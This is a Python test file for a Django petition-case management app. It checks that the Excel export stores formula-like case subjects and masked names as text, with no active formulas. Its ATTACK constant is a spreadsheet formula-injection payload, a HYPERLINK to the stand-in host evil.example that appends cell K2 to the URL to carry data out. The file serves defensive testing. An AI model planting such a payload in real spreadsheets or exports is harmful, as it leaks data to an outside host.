"""Exported text that looks like a formula stays text (no formula injection into .xlsx)."""

import io
import zipfile

import openpyxl
import pytest

from minxin.oversight.tests.conftest import person

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&K2,"点击查看")'


def test_case_export_writes_a_formula_like_subject_and_masked_name_as_text(client, city, flow):
    case = flow.register(subject=ATTACK, petitioners=[person(name="=2+3")])
    assert case.parties.get().petitioner.name_masked.startswith("=")
    client.force_login(city.staff["east_registrar"].user)
    content = client.get("/oversight/export/cases.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all("<f>" not in archive.read(n).decode() for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(content))

    def cell(sheet, header):
        # The list export is the case import workbook: find the case's row and the column by its header.
        ws = book[sheet]
        rows = list(ws.iter_rows())
        head = next(r for r in rows if any(c.value == "信访件编号" for c in r))
        columns = [c.value for c in head]
        row = next(r for r in rows if r[columns.index("信访件编号")].value == case.number)
        return row[columns.index(header)]

    subject, name = cell("信访事项", "标题"), cell("信访人", "姓名")
    assert (subject.value, subject.data_type, subject.quotePrefix) == (ATTACK, "s", True)
    assert (name.value, name.data_type, name.quotePrefix) == (case.parties.get().petitioner.name_masked, "s", True)
